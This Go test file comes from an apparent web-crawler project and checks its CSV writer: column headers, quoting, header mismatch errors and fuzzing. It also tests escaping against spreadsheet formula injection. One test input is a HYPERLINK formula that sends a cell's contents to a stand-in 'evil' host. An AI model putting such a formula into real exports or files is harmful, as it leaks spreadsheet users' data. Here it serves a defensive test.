package sinks

import (
	"encoding/csv"
	"errors"
	"io"
	"strings"
	"syscall"
	"testing"
	"testing/iotest"
	"time"

	"github.com/google/go-cmp/cmp"

	"trawl/fetch"
	"trawl/parse"
)

func TestCSVLines(t *testing.T) {
	if got, want := string(csvHeader(nil)), "seq,url,final_url,status,size,bytes,wire_bytes,content_type,time,duration_ms,ttfb_ms,attempts,proto,ip,sha256,change,class,error,run\n"; got != want {
		t.Errorf("header (-want +got):\n%s", cmp.Diff(want, got))
	}
	rec, _ := golden()
	encode := newCSV(testRun, nil)
	checkLine(t, encode, rec, "2,https://example.com/old,https://example.com/new,200,20417,20533,5120,text/html,2026-11-22T09:24:39.121Z,233.5,180.25,2,"+
		"HTTP/2.0,192.0.2.10,9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08,changed,,,"+testRun+"\n")
	checkLine(t, encode, parse.Record{Seq: 3, URL: "http://b/", Class: fetch.Timeout, Error: `no answer, "none"`, HasSize: true, Size: 7},
		`3,http://b/,,0,,,,,,,,0,,,,,timeout,"no answer, ""none""",`+testRun+"\n")

	rec.Redirects = []string{"http://b/1", "http://b/2"}
	checkLine(t, newCSV(testRun, []string{"data", "redirects", "retryable", "meta"}), rec,
		`"{""h1"":[""New""]}","[""http://b/1"",""http://b/2""]",,"{""id"":77}"`+"\n")
	checkLine(t, newCSV(testRun, []string{"retryable", "title"}), parse.Record{Class: fetch.DNS, Title: "a\nb\r\nc"}, "false,\"a\nb\r\nc\"\n")
}

// A line without anything would be no row for most readers.
func TestARowOfOneEmptyFieldIsARow(t *testing.T) {
	line := newCSV(testRun, []string{"title"})(nil, &parse.Record{})
	if rows := readCSV(t, string(line)); len(rows) != 1 || len(rows[0]) != 1 || rows[0][0] != "" {
		t.Errorf("a record without a title reads as %q, want one row with one empty field", rows)
	}
}

func TestAFormulaOpensAsText(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil/?"&A1,"x")`: `'=HYPERLINK("http://evil/?"&A1,"x")`,
		"=1+1":                               "'=1+1",
		"+1":                                 "'+1",
		"-1":                                 "'-1",
		"@SUM(A1)":                           "'@SUM(A1)",
		"\t=1":                               "'\t=1",
		"\r=1":                               "'\r=1",
		"\n=1":                               "'\n=1",
		"  =1":                               "'  =1",
		"＝1":                                 "'＝1",
		"＋1":                                 "'＋1",
		"－1":                                 "'－1",
		"＠1":                                 "'＠1",
		"'=1":                                "''=1",
		"''-":                                "'''-",
		"\t":                                 "'\t",
		"":                                   "",
		"a=1":                                "a=1",
		"1-2":                                "1-2",
		"'tis":                               "'tis",
		"'":                                  "'",
		" ":                                  " ",
		"（x）":                                "（x）",
		"{}":                                 "{}",
	} {
		if got := readCSV(t, string(appendCell(nil, in))+",\n")[0][0]; got != want {
			t.Errorf("%q is the cell %q, want %q", in, got, want)
		}
	}
	// Our own numbers and times stay as they are, and no other field is left out.
	rec := fuzzed("=a", "=b", "=c", `"=d"`, -7, 4)
	rec.Class, rec.FinalURL, rec.ContentType, rec.Proto, rec.SHA256 = "=e", "=f", "=g", "=h", "=i"
	row := readCSV(t, string(newCSV("=j", FieldNames())(nil, &rec)))[0]
	for i, f := range fieldsOf("", nil) {
		switch cell := row[i]; {
		case f.number != nil && strings.HasPrefix(cell, "'"), f.number == nil && opensAsFormula(cell) && cell[0] != '\'':
			t.Errorf("%s is %q", f.name, cell)
		}
	}
}

func TestAnotherHeaderIsRefused(t *testing.T) {
	names := []string{"url", "size"}
	for content, ok := range map[string]bool{
		"":                     true,
		"url,size\n":           true,
		"url,size\nhttp://a/,": true,
		"url,size":             false, // torn
		"url,siz":              false,
		"url,size,title\n":     false,
		"size,url\n":           false,
		"url,size\r\n":         false,
		"\ufeffurl,size\n":     false,
		"url:<http://a/> size:[1]\nurl:<http://b/> size:[2]\n": false,
		"\n": false,
	} {
		err := sameHeader("db.csv", strings.NewReader(content), names)
		if ok && err != nil {
			t.Errorf("%q: %v", content, err)
		}
		var e *Error
		if !ok && (!errors.As(err, &e) || e.Op != "open" || e.Path != "db.csv" || !strings.Contains(err.Error(), `not with "url,size"`)) {
			t.Errorf("%q: %v, want an Error that says so", content, err)
		}
	}
	err := sameHeader("db.csv", iotest.ErrReader(syscall.EIO), names)
	var e *Error
	if !errors.Is(err, syscall.EIO) || !errors.As(err, &e) || e.Op != "read" {
		t.Errorf("a file that cannot be read: %v", err)
	}
	if err := sameHeader("db.csv", strings.NewReader(string(csvHeader(nil))), nil); err != nil {
		t.Errorf("the default columns: %v", err)
	}
}

// fuzzed is a record with these values in all fields that can have them.
func fuzzed(a, b, c, raw string, n int64, flags byte) parse.Record {
	rec := parse.Record{
		Seq: n, URL: a, FinalURL: b, Redirects: []string{a, c}, Status: int(n), HasSize: flags&1 != 0, Size: n, HasBody: flags&2 != 0, Bytes: n, WireBytes: n / 2,
		ContentType: c, Title: a, Proto: b, IP: c, ETag: a, LastModified: b, SHA256: c, Attempts: int(n), Waited: time.Duration(n), Change: b,
		Timings: fetch.Timings{Duration: time.Duration(n), TTFB: time.Duration(n / 2), DNS: 1, Connect: time.Second, TLS: 1e6},
		Meta:    []byte(raw), Data: []byte(raw),
	}
	if flags&4 != 0 {
		rec.Class, rec.Error, rec.Retryable = fetch.Class(a), b, flags&8 != 0
	}
	if flags&16 != 0 {
		rec.Start = time.UnixMilli(n % 253402300799_999).Add(time.Nanosecond)
	}
	return rec
}

func FuzzCSV(f *testing.F) {
	f.Add("https://example.com/", "title \u2028 <b>", "x\xff\x00\"\\", `{"id": 1}`, int64(7), byte(31))
	f.Add("", "=1+1", "\r\n", "null", int64(-1), byte(4))
	f.Add(`"`, `,"`, "'＝", "{\n}", int64(1)<<62, byte(16))
	f.Add("a\rb", "\xef", "\xed\xa0\x80", "\"\\u0000\"", int64(0), byte(2))
	names := FieldNames()
	encode, header := newCSV(testRun, names), string(csvHeader(names))
	f.Fuzz(func(t *testing.T, a, b, c, raw string, n int64, flags byte) {
		rec := fuzzed(a, b, c, raw, n, flags)
		line := encode(nil, &rec)
		if line[len(line)-1] != '\n' {
			t.Fatalf("not a whole line: %q", line)
		}
		rows := readCSV(t, header+string(line)+string(line))
		if len(rows) != 3 {
			t.Fatalf("%d rows, want a header and two:\n%s", len(rows), line)
		}
		if diff := cmp.Diff(rows[1], rows[2]); diff != "" {
			t.Errorf("the same record twice (-first +second):\n%s", diff)
		}
		for i, f := range fieldsOf(testRun, names) {
			if got, want := rows[1][i], f.cell(&rec); got != want {
				t.Errorf("%s reads as %q, want %q", f.name, got, want)
			}
		}
	})
}

// cell is what encoding/csv, which takes CR LF in a field for LF, must find.
func (f *field) cell(rec *parse.Record) string {
	return strings.ReplaceAll(f.plainCell(rec), "\r\n", "\n")
}

// plainCell is what any other reader must find.
func (f *field) plainCell(rec *parse.Record) string {
	var s string
	switch {
	case f.text != nil:
		s = f.text(rec)
	case f.number != nil:
		n, ok := f.number(rec)
		if !ok {
			return ""
		}
		return string(f.appendPlain(nil, n))
	case f.texts != nil:
		if list := f.texts(rec); len(list) > 0 {
			s = string(appendStrings(nil, list))
		}
	default:
		s = strings.TrimPrefix(string(appendRaw(nil, "", f.object(rec))), `,"":`)
	}
	s = strings.Map(func(r rune) rune { return r }, strings.ReplaceAll(s, "\x00", "\uFFFD")) // a byte that is no UTF-8 becomes U+FFFD
	if opensAsFormula(s) {
		s = "'" + s
	}
	return s
}

// readCSV reads CSV strictly.
func readCSV(t *testing.T, s string) [][]string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(s))
	rows, err := r.ReadAll()
	if err != nil && err != io.EOF {
		t.Fatalf("%v in %q", err, s)
	}
	return rows
}
